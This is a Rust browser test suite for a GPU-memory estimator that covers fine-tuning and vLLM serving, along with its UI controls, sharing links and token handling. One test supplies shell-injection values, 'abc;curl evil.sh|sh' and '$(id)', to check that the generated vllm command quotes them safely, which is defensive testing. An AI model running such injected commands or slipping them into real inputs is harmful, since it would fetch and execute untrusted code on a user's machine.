//! Presets, the fits-on table, the chart, what fits, sharding controls, sharing and the token: pure logic and
//! components mounted in headless Chromium.
#![cfg(target_arch = "wasm32")]

use ftmem_app::arch_panel::Loaded;
use ftmem_app::chart::{fill_of, layout, Chart};
use ftmem_app::error::ErrorKind;
use ftmem_app::fit_panel::FitPanel;
use ftmem_app::fits::{ui_from_pairs, with_ui_pairs, FitsTable, GpuChoice, Unit};
use ftmem_app::hub::HfToken;
use ftmem_app::presets::{by_hub_id, fallback, Presets, DEFAULT_PRESET, PRESETS};
use ftmem_app::share::page_title;
use ftmem_core::gpus::{self, GPUS};
use ftmem_core::settings::{Mode, Offload, Shard};
use ftmem_core::{Bytes, Estimate, EstimateError, Settings};
use leptos::prelude::*;
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;

mod common;
use common::{attr, click, container, count, document, mount_controls, set_input, set_select, text, tick};

wasm_bindgen_test_configure!(run_in_browser);

fn gpt_oss() -> Loaded {
    Loaded::from_text(DEFAULT_PRESET.config, "test").expect("gpt-oss-20b parses")
}

fn estimate_of(l: &Loaded, s: &Settings) -> Estimate {
    ftmem_core::estimate(&l.arch, s).expect("estimate")
}

// ------------------------------------------------------------------------------------------------ presets

#[wasm_bindgen_test]
fn every_preset_is_a_usable_config() {
    assert!(PRESETS.len() >= 14);
    for p in PRESETS {
        let l = Loaded::from_text(p.config, p.hub_id)
            .unwrap_or_else(|e| panic!("{}: {}", p.hub_id, e.message));
        assert!(
            l.counts.total.0 > 500_000_000,
            "{}: {} parameters",
            p.hub_id,
            l.counts.total.0
        );
        assert!(
            ftmem_core::estimate(&l.arch, &Settings::default()).is_ok(),
            "{}",
            p.hub_id
        );
        assert_eq!(by_hub_id(p.hub_id).map(|q| q.name), Some(p.name));
    }
    assert_eq!(DEFAULT_PRESET.hub_id, "openai/gpt-oss-20b");
    assert!(
        by_hub_id("OpenAI/GPT-OSS-20B").is_some(),
        "ids compare case-insensitively"
    );
    assert!(by_hub_id("nobody/nothing").is_none());
    // The built-in config stands in only for transient failures at main.
    assert!(fallback("openai/gpt-oss-20b", "main", ErrorKind::Unauthorized).is_some());
    assert!(fallback("openai/gpt-oss-20b", "main", ErrorKind::Offline).is_some());
    assert!(fallback("openai/gpt-oss-20b", "main", ErrorKind::NotFound).is_none());
    assert!(fallback("openai/gpt-oss-20b", "v2", ErrorKind::Offline).is_none());
    assert!(fallback("nobody/nothing", "main", ErrorKind::Offline).is_none());
}

#[wasm_bindgen_test]
async fn preset_buttons_call_back_with_the_preset() {
    let picked = RwSignal::new(None::<&'static str>);
    let current = RwSignal::new(String::new());
    let on_pick =
        Callback::new(move |p: &'static ftmem_app::presets::Preset| picked.set(Some(p.hub_id)));
    let handle =
        leptos::mount::mount_to(container(), move || view! { <Presets on_pick current /> });
    tick().await;
    assert_eq!(count("#presets button[data-preset]"), PRESETS.len() as u32);
    click("#presets button[data-preset='Qwen/Qwen3-8B']");
    tick().await;
    assert_eq!(picked.get_untracked(), Some("Qwen/Qwen3-8B"));
    current.set("Qwen/Qwen3-8B".into());
    tick().await;
    assert_eq!(
        attr(
            "#presets button[data-preset='Qwen/Qwen3-8B']",
            "aria-pressed"
        )
        .as_deref(),
        Some("true")
    );
    assert_eq!(
        attr(
            "#presets button[data-preset='openai/gpt-oss-20b']",
            "aria-pressed"
        )
        .as_deref(),
        Some("false")
    );
    drop(handle);
}

// ------------------------------------------------------------------------------------------------ fits

#[wasm_bindgen_test]
fn ui_keys_parse_and_stay_in_place() {
    assert_eq!(Unit::parse("GiB"), Some(Unit::Gib));
    assert_eq!(Unit::parse("mb"), None);
    assert_eq!(Unit::Gb.format(Bytes(13_420_000_000)), "13.42 GB");
    assert_eq!(Unit::Gib.format(Bytes(1 << 30)), "1.00 GiB");
    assert_eq!(
        GpuChoice::parse("h100-80"),
        gpus::by_id("h100-80").map(GpuChoice::Listed)
    );
    assert_eq!(GpuChoice::parse("24"), Some(GpuChoice::Custom(24.0)));
    assert_eq!(
        GpuChoice::parse("47.5").map(|c| c.query_value()),
        Some("47.5".to_string())
    );
    assert_eq!(GpuChoice::Custom(24.0).capacity(), Bytes(24 << 30));
    for bad in ["0", "-3", "NaN", "inf", "1e9", "h100", ""] {
        assert_eq!(GpuChoice::parse(bad), None, "{bad}");
    }
    let pairs = vec![
        ("lang".to_string(), "ko".to_string()),
        ("gpu".to_string(), "t4".to_string()),
        ("x".to_string(), "1".to_string()),
    ];
    let (unit, gpu) = ui_from_pairs(&pairs);
    assert_eq!(unit, Unit::Gib, "GiB by default");
    assert_eq!(gpu.map(|g| g.query_value()), Some("t4".into()));
    let h100 = GpuChoice::parse("h100-80");
    let vs = ("stack".to_string(), "trainer".to_string());
    let out = with_ui_pairs(&pairs, Unit::Gb, h100.as_ref(), Some(&vs));
    let flat: Vec<String> = out.iter().map(|(k, v)| format!("{k}={v}")).collect();
    assert_eq!(flat, ["lang=ko", "gpu=h100-80", "x=1", "unit=gb", "vs=stack:trainer"]);
    let out = with_ui_pairs(&out, Unit::Gib, None, None);
    let flat: Vec<String> = out.iter().map(|(k, v)| format!("{k}={v}")).collect();
    assert_eq!(flat, ["lang=ko", "x=1"], "defaults leave the link");
}

#[wasm_bindgen_test]
async fn fits_table_compares_with_every_gpu_and_switches_units() {
    let l = gpt_oss();
    let settings = Settings {
        mode: Mode::Full,
        ..Settings::default()
    };
    let est = estimate_of(&l, &settings);
    let total = est.total_bytes;
    let estimate = RwSignal::new(Some(Ok::<Estimate, EstimateError>(est)));
    let unit = RwSignal::new(Unit::Gb);
    let choice = RwSignal::new(None::<GpuChoice>);
    let handle = leptos::mount::mount_to(
        container(),
        move || view! { <ftmem_app::fits::UnitToggle unit /><FitsTable estimate unit choice /> },
    );
    tick().await;
    assert_eq!(count("#fits-table tbody tr[data-gpu]"), GPUS.len() as u32);
    for g in GPUS {
        let f = gpus::fits(total, g);
        let row = format!("#fits-table tr[data-gpu='{}']", g.id);
        assert_eq!(
            attr(&row, "data-fits").as_deref(),
            Some(if f.fits { "yes" } else { "no" }),
            "{}",
            g.id
        );
        let want = if f.fits {
            f.headroom.0 as i128
        } else {
            -(f.shortfall.0 as i128)
        };
        assert_eq!(
            attr(&format!("{row} td.headroom"), "data-bytes"),
            Some(want.to_string()),
            "{}",
            g.id
        );
    }
    // A full fine-tune of a 21 B model fits on the MI300X but not on a T4.
    assert_eq!(
        attr("#fits-table tr[data-gpu='t4']", "data-fits").as_deref(),
        Some("no")
    );
    assert_eq!(
        attr("#fits-table tr[data-gpu='mi300x']", "data-fits").as_deref(),
        Some("yes")
    );
    assert!(text("#fits-table tr[data-gpu='h200']").contains(" GB"));
    assert!(text("#measured-error").contains(&ftmem_core::accuracy::RUNS.to_string()));

    click("#unit-gib");
    tick().await;
    assert_eq!(unit.get_untracked(), Unit::Gib);
    assert!(text("#fits-table tr[data-gpu='h200']").contains("GiB"));

    click("#fits-table tr[data-gpu='a100-80'] button");
    tick().await;
    assert_eq!(
        choice.get_untracked().map(|c| c.query_value()),
        Some("a100-80".into())
    );

    estimate.set(None);
    tick().await;
    assert_eq!(count("#fits-table"), 0);
    drop(handle);
}

// ------------------------------------------------------------------------------------------------ chart

#[wasm_bindgen_test]
fn chart_layout_scales_to_the_larger_of_total_and_capacity() {
    let l = gpt_oss();
    let est = estimate_of(&l, &Settings::default());
    let lay = layout(
        &est.components,
        est.total_bytes,
        Some(Bytes(est.total_bytes.0 * 2)),
    );
    let sum: f64 = lay.segments.iter().map(|s| s.w).sum();
    assert!((sum - 50.0).abs() < 1e-6, "{sum}");
    assert!((lay.total_x - 50.0).abs() < 1e-6);
    assert_eq!(lay.capacity_x, Some(100.0));
    // Segments follow each other.
    for w in lay.segments.windows(2) {
        assert!((w[0].x + w[0].w - w[1].x).abs() < 1e-9);
    }
    let lay = layout(
        &est.components,
        est.total_bytes,
        Some(Bytes(est.total_bytes.0 / 2)),
    );
    assert!((lay.total_x - 100.0).abs() < 1e-6);
    assert!((lay.capacity_x.unwrap_or(0.0) - 50.0).abs() < 1e-6);
    // Components shown together never share colour and hatching.
    for e in [
        &est,
        &estimate_of(
            &l,
            &Settings {
                mode: Mode::Full,
                gpus: 8,
                shard: Shard::Zero3,
                ..Settings::default()
            },
        ),
    ] {
        let fills: Vec<_> = e.components.iter().map(|c| fill_of(c.name)).collect();
        for (i, a) in fills.iter().enumerate() {
            assert!(!fills[i + 1..].contains(a), "{:?}", e.components[i].name);
        }
    }
}

#[wasm_bindgen_test]
async fn chart_draws_each_component_and_the_capacity_mark() {
    let l = gpt_oss();
    let est = estimate_of(&l, &Settings::default());
    let n = est.components.iter().filter(|c| c.bytes.0 > 0).count() as u32;
    let estimate = RwSignal::new(Some(Ok::<Estimate, EstimateError>(est)));
    let gpu = RwSignal::new(GpuChoice::parse("rtx-4090"));
    let unit = RwSignal::new(Unit::Gb);
    let handle =
        leptos::mount::mount_to(container(), move || view! { <Chart estimate gpu unit /> });
    tick().await;
    assert_eq!(count("#chart rect[data-item]"), n);
    assert_eq!(
        count("#chart rect[data-item] title"),
        n,
        "each segment has a tooltip"
    );
    assert_eq!(count("#chart-legend li"), n);
    assert_eq!(
        attr("#chart-capacity", "data-bytes"),
        gpus::by_id("rtx-4090").map(|g| g.capacity.0.to_string())
    );
    assert!(text("#chart rect[data-item='weights'] title").contains("GB"));
    gpu.set(None);
    tick().await;
    assert_eq!(count("#chart-capacity"), 0);
    drop(handle);
}

// ------------------------------------------------------------------------------------------------ what fits

#[wasm_bindgen_test]
async fn fit_panel_computes_when_open() {
    let loaded = RwSignal::new(Some(gpt_oss()));
    let qlora = Settings {
        mode: Mode::Qlora,
        batch: 1,
        seq: 2048,
        ..Settings::default()
    };
    let settings = RwSignal::new(qlora.clone());
    let choice = RwSignal::new(GpuChoice::parse("h200"));
    let unit = Signal::derive(|| Unit::Gb);
    let handle = leptos::mount::mount_to(
        container(),
        move || view! { <FitPanel loaded settings choice unit /> },
    );
    tick().await;
    assert_eq!(
        count("#fit-batch"),
        0,
        "nothing is computed while the panel is closed"
    );
    let details: web_sys::HtmlDetailsElement = document()
        .get_element_by_id("fit-panel")
        .expect("panel")
        .unchecked_into();
    details.set_open(true);
    tick().await;
    tick().await;
    let arch = loaded
        .with_untracked(|l| l.as_ref().map(|l| l.arch.clone()))
        .expect("arch");
    let cap = gpus::by_id("h200").map(|g| g.capacity).expect("gpu");
    let rep = ftmem_core::fit::fit_report(&arch, &qlora, cap).expect("report");
    let v = |o: Option<u64>| o.map(|n| n.to_string()).unwrap_or_default();
    assert_eq!(attr("#fit-batch", "data-value"), Some(v(rep.largest_batch)));
    assert_eq!(attr("#fit-seq", "data-value"), Some(v(rep.longest_seq)));
    assert_eq!(attr("#fit-rank", "data-value"), Some(v(rep.largest_rank)));
    assert!(
        rep.largest_batch.is_some(),
        "QLoRA gpt-oss-20b fits on an H200"
    );
    assert_eq!(count("#fit-gpus tr[data-shard]"), 5);
    assert_eq!(
        text("#fit-gpus tr[data-shard='ddp'] td"),
        "1",
        "it fits on one"
    );

    // A custom size.
    set_select("fit-gpu", "custom");
    tick().await;
    let input: web_sys::HtmlInputElement = document()
        .get_element_by_id("fit-custom-gib")
        .expect("custom")
        .unchecked_into();
    input.set_value("80");
    input
        .dispatch_event(&web_sys::Event::new("input").expect("event"))
        .expect("dispatch");
    tick().await;
    assert_eq!(choice.get_untracked(), Some(GpuChoice::Custom(80.0)));
    let rep80 = ftmem_core::fit::fit_report(&arch, &qlora, Bytes(80 << 30)).expect("report");
    assert_eq!(
        attr("#fit-batch", "data-value"),
        Some(v(rep80.largest_batch))
    );
    input.set_value("-1");
    input
        .dispatch_event(&web_sys::Event::new("input").expect("event"))
        .expect("dispatch");
    tick().await;
    assert_eq!(
        choice.get_untracked(),
        Some(GpuChoice::Custom(80.0)),
        "a bad size keeps the last good one"
    );
    assert!(!text("#fit-custom-error").is_empty());
    drop(handle);
}

// ------------------------------------------------------------------------------------------------ sharding

#[wasm_bindgen_test]
async fn sharding_controls_refuse_bad_combinations() {
    let settings = RwSignal::new(Settings {
        mode: Mode::Full,
        ..Settings::default()
    });
    let handle = mount_controls(settings);
    tick().await;
    for id in ["gpus", "shard", "offload"] {
        assert!(document().get_element_by_id(id).is_some(), "{id}");
    }
    set_select("shard", "zero3");
    tick().await;
    set_select("offload", "params");
    tick().await;
    assert_eq!(
        (
            settings.get_untracked().shard,
            settings.get_untracked().offload
        ),
        (Shard::Zero3, Offload::Params)
    );
    // ZeRO-1 cannot offload parameters: refused, the settings stay, the message is the core's.
    set_select("shard", "zero1");
    tick().await;
    assert_eq!(settings.get_untracked().shard, Shard::Zero3);
    assert!(
        text("#shard-error").contains("zero3"),
        "{}",
        text("#shard-error")
    );
    let sel: web_sys::HtmlSelectElement = document()
        .get_element_by_id("shard")
        .expect("shard")
        .unchecked_into();
    assert_eq!(sel.value(), "zero3", "the select shows the value in force");
    // Inference hides the sharding controls and drops the offload.
    set_select("mode", "inference");
    tick().await;
    assert_eq!(settings.get_untracked().mode, Mode::Inference);
    assert_eq!(settings.get_untracked().offload, Offload::None);
    assert!(document().get_element_by_id("offload").is_none());
    drop(handle);
}

// ------------------------------------------------------------------------------------------------ share, token

#[wasm_bindgen_test]
fn page_title_is_short_and_human() {
    let s = Settings {
        mode: Mode::Qlora,
        rank: 16,
        ..Settings::default()
    };
    assert_eq!(
        page_title(
            "openai/gpt-oss-20b",
            &s,
            Some(Bytes(23_140_000_000)),
            Unit::Gb
        ),
        "gpt-oss-20b · QLoRA r16 · TRL · 23.1 GB"
    );
    let s = Settings {
        mode: Mode::Full,
        gpus: 8,
        shard: Shard::Zero3,
        stack: ftmem_core::settings::Stack::Trainer,
        ..Settings::default()
    };
    assert_eq!(
        page_title(
            "meta-llama/Meta-Llama-3.1-70B",
            &s,
            Some(Bytes(61_200_000_000)),
            Unit::Gb
        ),
        "Meta-Llama-3.1-70B · Full · Trainer · 8 GPUs ZeRO-3 · 61.2 GB per GPU"
    );
    assert_eq!(
        page_title("x/y", &s, None, Unit::Gb),
        ftmem_app::share::BASE_TITLE
    );
}

#[wasm_bindgen_test]
fn token_is_checked_and_never_printed() {
    assert_eq!(HfToken::parse("  "), Ok(None));
    let t = HfToken::parse(" hf_abcDEF123 ").expect("ok").expect("some");
    assert_eq!(t.authorization(), "Bearer hf_abcDEF123");
    assert!(!format!("{t:?}").contains("hf_abc"), "Debug is redacted");
    assert!(HfToken::parse("hf_abc def").is_err());
    assert!(HfToken::parse("hf_é").is_err());
    let err = HfToken::parse("hf_ bad").err().unwrap_or_default();
    assert!(!err.contains("bad"), "the message does not echo the token");
}

// ------------------------------------------------------------------------------------------------ stack

#[wasm_bindgen_test]
async fn stack_select_and_liger_follow_the_stack() {
    let settings = RwSignal::new(Settings::default());
    let handle = mount_controls(settings);
    tick().await;
    assert_eq!(
        settings.get_untracked().stack,
        ftmem_core::settings::Stack::Trl,
        "TRL SFTTrainer by default"
    );
    let sel: web_sys::HtmlSelectElement = document()
        .get_element_by_id("stack")
        .expect("#stack")
        .unchecked_into();
    assert_eq!(sel.value(), "trl");
    assert!(text("#stack").contains("TRL SFTTrainer"));
    assert!(text("#stack").contains("LLaMA-Factory"));
    // Liger on, then the plain loop: the checkbox is disabled and Liger is off (the loop takes no
    // use_liger_kernel), so the link stays one the core accepts.
    let cb: web_sys::HtmlInputElement = document()
        .get_element_by_id("liger")
        .expect("#liger")
        .unchecked_into();
    cb.set_checked(true);
    cb.dispatch_event(&web_sys::Event::new("change").unwrap())
        .unwrap();
    tick().await;
    assert!(settings.get_untracked().liger);
    set_select("stack", "loop");
    tick().await;
    let s = settings.get_untracked();
    assert_eq!(s.stack, ftmem_core::settings::Stack::Loop);
    assert!(!s.liger);
    let cb: web_sys::HtmlInputElement = document()
        .get_element_by_id("liger")
        .expect("#liger")
        .unchecked_into();
    assert!(cb.disabled() && !cb.checked(), "the loop takes no Liger");
    assert_eq!(
        Settings::from_query(&s.to_query()).as_ref(),
        Ok(&s),
        "the link round-trips"
    );
    // Inference has no stack.
    set_select("mode", "inference");
    tick().await;
    assert!(document().get_element_by_id("stack").is_none());
    drop(handle);
}

#[wasm_bindgen_test]
async fn breakdown_names_its_stack_and_what_the_others_need() {
    use ftmem_app::breakdown::{Breakdown, StackView};
    use ftmem_core::settings::Stack;
    let l = gpt_oss();
    // The gpt-oss cookbook's run: LoRA r8, micro-batch 4 × 2048 tokens, eager attention, checkpointing.
    let s = Settings::from_query("mode=lora&rank=8&batch=4&seq=2048&attn=eager").unwrap();
    let est = ftmem_core::estimate(&l.arch, &s);
    let trl_total = est.as_ref().unwrap().total_bytes;
    let view = StackView {
        stack: s.stack,
        liger: false,
        others: ftmem_core::other_stacks(&l.arch, &s),
    };
    let estimate = Signal::derive(move || Some(est.clone()));
    let stack = Signal::derive(move || Some(view.clone()));
    let handle =
        leptos::mount::mount_to(container(), move || view! { <Breakdown estimate stack /> });
    tick().await;
    assert!(
        text("#stack-for").contains("TRL SFTTrainer"),
        "{}",
        text("#stack-for")
    );
    let versions = text("#stack-versions");
    for v in [
        "TRL 1.16",
        "transformers 5.17",
        "peft 0.21",
        "bitsandbytes 0.50",
        "torch 2.11",
    ] {
        assert!(versions.contains(v), "{versions}");
    }
    assert!(!versions.contains("liger"), "Liger is off: {versions}");
    assert_eq!(count("#other-stacks [data-stack]"), 2);
    let bytes = |st: Stack| {
        attr(
            &format!("#other-stacks [data-stack='{}']", st.as_str()),
            "data-bytes",
        )
        .and_then(|b| b.parse::<u64>().ok())
        .unwrap_or(0)
    };
    // The stacks disagree, and in the order their loss paths say: the fused head holds least, the loop (which
    // keeps the logits through backward) most.
    assert!(trl_total.0 < bytes(Stack::Trainer), "TRL below Trainer");
    assert!(
        bytes(Stack::Trainer) < bytes(Stack::Loop),
        "Trainer below the loop"
    );
    assert!(text("#other-stacks").contains("PyTorch loop"));
    assert!(
        text("#other-stacks").contains(" GiB"),
        "every number has its unit (GiB by default)"
    );
    drop(handle);
}

// ------------------------------------------------------------------------------------------------ serving

#[wasm_bindgen_test]
async fn serve_mode_shows_vllms_keys_and_hides_the_training_ones() {
    let settings = RwSignal::new(Settings::default());
    let handle = mount_controls(settings);
    tick().await;
    set_select("mode", "serve");
    tick().await;
    for id in ["util", "maxlen", "tp", "kvdtype", "seqs", "precision"] {
        assert!(document().get_element_by_id(id).is_some(), "{id}");
    }
    for id in ["batch", "seq", "rank", "attn", "gpus"] {
        assert!(document().get_element_by_id(id).is_none(), "{id}");
    }
    set_input("tp", "4");
    tick().await;
    assert_eq!(settings.get_untracked().tp, 4);
    assert_eq!(settings.get_untracked().to_query(), "mode=serve&tp=4");
    // Leaving serve mode: the serving keys go, as hidden settings must.
    set_select("mode", "lora");
    tick().await;
    assert_eq!(settings.get_untracked().to_query(), "");
    drop(handle);
}

#[wasm_bindgen_test]
fn the_serving_card_states_vllms_answer_and_its_command() {
    use ftmem_app::serve_panel::serve_html;
    let l = gpt_oss();
    let h100 = GpuChoice::parse("h100-80").unwrap();
    let s = Settings::from_query("mode=serve&maxlen=16000").unwrap();
    let html = serve_html(&l.arch, &s, "openai/gpt-oss-20b", &h100, Unit::Gib, ftmem_app::i18n::Lang::En);
    for id in ["serve-status", "serve-kv", "serve-concurrency", "serve-longest", "serve-budget", "serve-min-util", "serve-fewest-tp", "serve-gpus", "serve-command"] {
        assert!(html.contains(&format!("id=\"{id}\"")), "{id}");
    }
    assert!(html.contains("data-starts=\"yes\""));
    assert!(html.contains("vllm serve openai/gpt-oss-20b --max-model-len 16000"));
    // Too small a share of the GPU: vLLM's own error, in its words, in both languages.
    let small = Settings { util: 0.1, ..s.clone() };
    for lang in [ftmem_app::i18n::Lang::En, ftmem_app::i18n::Lang::Ko] {
        let html = serve_html(&l.arch, &small, "", &h100, Unit::Gib, lang);
        assert!(html.contains("data-starts=\"no\""));
        assert!(html.contains("No available memory for the cache blocks"));
        assert!(html.contains("--gpu-memory-utilization 0.1"));
    }
}

#[wasm_bindgen_test]
fn a_setting_vllm_refuses_outright_is_not_blamed_on_memory() {
    use ftmem_app::serve_panel::serve_html;
    // SmolLM2-135M has 9 attention heads: tp=2 is refused whatever the memory.
    let smol = Loaded::from_text(include_str!("fixtures/configs/HuggingFaceTB__SmolLM2-135M-Instruct.mlc.json"), "test")
        .expect("SmolLM2 parses");
    let h100 = GpuChoice::parse("h100-80").unwrap();
    let s = Settings::from_query("mode=serve&tp=2").unwrap();
    for lang in [ftmem_app::i18n::Lang::En, ftmem_app::i18n::Lang::Ko] {
        let html = serve_html(&smol.arch, &s, "HuggingFaceTB/SmolLM2-135M-Instruct", &h100, Unit::Gib, lang);
        assert!(html.contains("data-starts=\"no\""));
        assert!(html.contains("Total number of attention heads (9) must be divisible by tensor parallel size (2)."));
        assert!(html.contains("data-util=\"\""), "no smallest util for a refused setting");
        assert!(!html.contains("Even gpu_memory_utilization 1.0") && !html.contains("1.0으로 올려도"), "what fits does not blame gpu_memory_utilization: {html}");
        // It names the sizes vLLM accepts, and the fewest GPUs among them.
        assert!(html.contains(": 1, 3, 9."), "{html}");
        assert!(html.contains("data-tp=\"1\""), "{html}");
        assert!(!html.contains("id=\"serve-longest\""), "no longest request when vLLM never sizes its KV cache");
    }
}

#[wasm_bindgen_test]
fn the_serving_card_caps_what_the_scheduler_runs_and_names_the_largest_max_model_len() {
    use ftmem_app::serve_panel::serve_html;
    let l = gpt_oss();
    let h100 = GpuChoice::parse("h100-80").unwrap();
    // 2,048-token requests: the KV cache holds hundreds of them, the scheduler runs 1,024 at most (H100 default).
    let s = Settings::from_query("mode=serve&maxlen=2048&seqs=64").unwrap();
    let html = serve_html(&l.arch, &s, "openai/gpt-oss-20b", &h100, Unit::Gib, ftmem_app::i18n::Lang::En);
    assert!(html.contains("the scheduler runs at most 64 (max_num_seqs)"), "{html}");
    // The longest request is a max_model_len vLLM accepts: at most the config's 131,072.
    assert!(html.contains("data-tokens=\"131072\""), "{html}");
    assert!(html.contains("Max request length (--max-model-len): 2,048 tokens. The KV cache could hold one request of up to 131,072 tokens"), "{html}");
}

#[wasm_bindgen_test]
fn the_serving_command_line_cannot_carry_shell_commands() {
    use ftmem_app::serve_panel::command;
    use ftmem_core::estimate::serve;
    let l = gpt_oss();
    let s = Settings { rev: "abc;curl evil.sh|sh".into(), ..Settings::from_query("mode=serve").unwrap() };
    let p = serve::plan(&l.arch, &s, ftmem_core::gpus::by_id("h100-80").unwrap()).unwrap();
    assert_eq!(command(&s, "openai/gpt-oss-20b", &p), "vllm serve openai/gpt-oss-20b --revision 'abc;curl evil.sh|sh'");
    assert_eq!(command(&s, "o'neil/$(id)", &p), r"vllm serve 'o'\''neil/$(id)' --revision 'abc;curl evil.sh|sh'");
}

#[wasm_bindgen_test]
fn korean_field_errors_are_said_in_korean() {
    use ftmem_app::controls::lead;
    use ftmem_app::i18n::Lang;
    let msg = |q: &str| Settings::from_query(q).unwrap_err().message;
    assert_eq!(lead(msg("mode=serve&util=1.5"), Lang::Ko), "gpu_memory_utilization은 0보다 크고 1 이하여야 합니다 (입력값 1.5)");
    assert_eq!(lead(msg("batch=0"), Lang::Ko), "1 이상이어야 합니다 (입력값 0)");
    assert_eq!(lead(msg("rank=abc"), Lang::Ko), "`abc`은(는) 정수가 아닙니다");
    // English stays the core's own words.
    assert_eq!(lead(msg("batch=0"), Lang::En), "must be at least 1, got 0");
}
